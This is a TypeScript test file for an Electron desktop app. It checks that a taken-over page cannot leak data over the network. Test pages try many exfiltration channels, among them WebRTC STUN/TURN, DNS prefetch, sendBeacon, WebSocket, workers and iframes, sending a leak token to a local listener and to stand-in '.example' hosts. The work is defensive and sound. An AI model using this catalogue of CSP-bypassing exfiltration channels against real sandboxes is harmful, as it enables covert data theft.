import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type ListeningPost, listeningPost } from '../support/listening-post.ts';
import { eventsIn, reachedOut } from '../support/net-log.ts';
import { canSeeSockets, udpSockets } from '../support/sockets.ts';
import { type LaunchedApp, launchElectron } from './support/electron-app.ts';

/**
 * A page that was taken over tries to carry something out. WebRTC and looking names up in advance pass by the content
 * security policy and Electron's `webRequest`, so a socket of ours listens, the kernel is asked, and Chromium's own log.
 */

let folder: string;
let desktop: LaunchedApp;
let post: ListeningPost;
const netLog = () => path.join(folder, 'net.json');
/** In every name that the page tries to have looked up. */
const LEAK = `leak-${randomUUID()}`;

beforeAll(async () => {
  folder = mkdtempSync(path.join(tmpdir(), 'convas-leak-'));
  post = await listeningPost();
  desktop = await launchElectron({ args: [`--log-net-log=${netLog()}`] });
});

afterAll(async () => {
  await desktop?.close();
  post?.close();
  rmSync(folder, { recursive: true, force: true });
});

interface IceTrial {
  /** States of gathering and of the connection that were seen. */
  states: string[];
  candidates: string[];
}

/** Where to, and whether to wait until ICE has looked everywhere rather than only began. */
type Target = [address: string, udpPort: number, tcpPort: number, leak: string, untilComplete: boolean];

/** In a page: STUN and TURN over UDP and TCP, and a partner that claims to be at our address. */
async function tryIce([address, udpPort, tcpPort, leak, untilComplete]: Target): Promise<IceTrial> {
  const turn = { username: leak, credential: leak };
  const iceServers = [
    { urls: [`stun:${address}:${udpPort}`, `stun:stun.${leak}.example:3478`] },
    { urls: [`turn:${address}:${udpPort}?transport=udp`, `turn:${address}:${tcpPort}?transport=tcp`], ...turn },
    { urls: [`turns:${address}:${tcpPort}?transport=tcp`, `turn:turn.${leak}.example:3478`], ...turn },
  ];
  const one = new RTCPeerConnection({ iceServers });
  const other = new RTCPeerConnection({ iceServers });
  const states: string[] = [];
  const candidates: string[] = [];
  const gathered = new Promise<void>((resolve) => {
    one.addEventListener('icegatheringstatechange', () => {
      states.push(one.iceGatheringState);
      if (one.iceGatheringState === 'complete' || !untilComplete) resolve();
    });
  });
  const checking = new Promise<void>((resolve) => {
    one.addEventListener('iceconnectionstatechange', () => {
      states.push(one.iceConnectionState);
      resolve();
    });
  });
  one.addEventListener('icecandidate', ({ candidate }) => {
    if (candidate?.candidate) candidates.push(candidate.candidate);
  });
  one.createDataChannel(leak);
  await one.setLocalDescription();
  if (one.localDescription) await other.setRemoteDescription(one.localDescription);
  await other.setLocalDescription();
  if (other.localDescription) await one.setRemoteDescription(other.localDescription);
  for (const place of [`1 udp 2122260223 ${address} ${udpPort}`, `1 tcp 1518280447 ${address} ${tcpPort}`]) {
    const kind = place.includes('tcp') ? ' tcptype passive' : '';
    await one.addIceCandidate({ candidate: `candidate:1 ${place} typ host${kind}`, sdpMid: '0' });
  }
  await Promise.all([gathered, checking]);
  // A trial that is not over yet goes on until its window ends.
  if (untilComplete) for (const connection of [one, other]) connection.close();
  return { states, candidates };
}

/** In a page: everything else that could make a connection or have a name looked up. */
async function tryRequests([address, port, leak]: [string, number, string]): Promise<void> {
  const place = `${address}:${port}`;
  for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'modulepreload', 'icon']) {
    for (const href of [`http://${place}/${rel}`, `https://${rel}.${leak}.example/`]) {
      document.head.append(Object.assign(document.createElement('link'), { rel, href, as: 'image' }));
    }
  }
  // Names behind links are looked up in advance, too.
  const link = Object.assign(document.createElement('a'), { href: `http://a.${leak}.example/`, textContent: 'a' });
  document.body.append(link);
  const tries: (() => unknown)[] = [
    () => fetch(`http://${place}/fetch`, { mode: 'no-cors', keepalive: true }),
    () => navigator.sendBeacon(`http://${place}/beacon`, leak),
    () => new WebSocket(`ws://${place}/`),
    () => new EventSource(`http://${place}/`),
    () => new WebTransport(`https://${place}/`).ready,
    () => Object.assign(new Image(), { src: `http://${place}/image` }),
    () => new Audio(`http://${place}/audio`).play(),
    () => new Worker(`http://${place}/worker.js`),
    () => navigator.serviceWorker.register(`http://${place}/worker.js`),
    () => new FontFace(leak, `url(http://${place}/font)`).load(),
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: `http://${place}/frame` })),
    () => open(`http://${place}/`),
  ];
  for (const attempt of tries) {
    try {
      await Promise.race([attempt(), new Promise((resolve) => requestAnimationFrame(resolve))]);
    } catch {
      // Refused.
    }
  }
}

/**
 * A name that is asked for becomes “~NOTFOUND”, which no resolver sees. And once in a while Chromium finds out whether
 * there is a route for IPv6, by connecting a UDP socket, which sends nothing.
 */
function isHarmless(line: string): boolean {
  return (
    /^HOST_RESOLVER_MANAGER_REQUEST: (https?:\/\/)?~notfound(:\d+)?$/i.test(line) ||
    line === 'UDP_CONNECT: [2001:4860:4860::8888]:443'
  );
}

it('our sockets hear, also what a page sends once its guard is off', async () => {
  await post.prove();
  expect(post.heard).toEqual([]);
  const where: Target = [post.address, post.udpPort, post.tcpPort, 'control', false];
  const unguarded = await desktop.app.evaluate(
    async ({ BrowserWindow }, [script, where]) => {
      const window = new BrowserWindow({ show: false });
      window.webContents.setWebRTCIPHandlingPolicy('default');
      Object.assign(globalThis, { unguarded: window });
      await window.loadURL('data:text/html,<title>unguarded</title>');
      return window.webContents.executeJavaScript(`(${script})(${JSON.stringify(where)})`) as Promise<IceTrial>;
    },
    [tryIce.toString(), where] as const,
  );
  expect(unguarded.states).toEqual(expect.arrayContaining(['gathering', 'checking']));
  // The first two bytes of a STUN binding request, and of a TURN allocation.
  await expect.poll(() => post.heard.filter((line) => /^udp 000[13]/.test(line)).length).toBeGreaterThan(0);
  await desktop.app.evaluate(() => {
    (globalThis as unknown as { unguarded: { destroy(): void } }).unguarded.destroy();
  });
});

it('WebRTC of the app’s page begins, finds no way out, and nothing is heard', async () => {
  const pid = desktop.app.process().pid ?? 0;
  // The page of before is gone with its sockets.
  if (canSeeSockets) await expect.poll(() => udpSockets(pid)).toBe(0);
  await post.prove();
  post.forget();
  const { states, candidates } = await desktop.page.evaluate(tryIce, [
    post.address,
    post.udpPort,
    post.tcpPort,
    LEAK,
    true,
  ] as Target);
  expect(states).toEqual(expect.arrayContaining(['gathering', 'checking', 'complete']));
  expect(candidates).toEqual([]);
  if (canSeeSockets) expect(udpSockets(pid)).toBe(0);
  await post.prove();
  expect(post.heard).toEqual([]);
});

it('no other way leads out either, and no name is looked up', async () => {
  await desktop.page.evaluate(tryRequests, [post.address, post.tcpPort, LEAK] as [string, number, string]);
  // The log shows what is asked for at all: this is, by the main process, past every guard but the switches.
  await desktop.app.evaluate(async ({ session }, place) => {
    const other = session.fromPartition('unguarded');
    other.webRequest.onBeforeRequest(null);
    await other.setProxy({ mode: 'direct' });
    for (const url of [`http://${place}/control`, 'http://control.example/']) await other.fetch(url).catch(() => {});
  }, `${post.address}:${post.tcpPort}`);
  await post.prove();
  // Not even that request got a connection.
  expect(post.heard).toEqual([]);
  const closed = desktop.app.waitForEvent('close');
  await desktop.app.evaluate(({ app }) => app.exit(0)).catch(() => {});
  await closed;
  expect(eventsIn(netLog())).toBeGreaterThan(20);
  const asked = reachedOut(netLog());
  expect(asked.join('\n')).toContain('control.example');
  expect(asked.filter((line) => line.includes(LEAK))).toEqual([]);
  const others = asked.filter((line) => !line.includes('control') && !isHarmless(line));
  expect(others).toEqual([]);
});
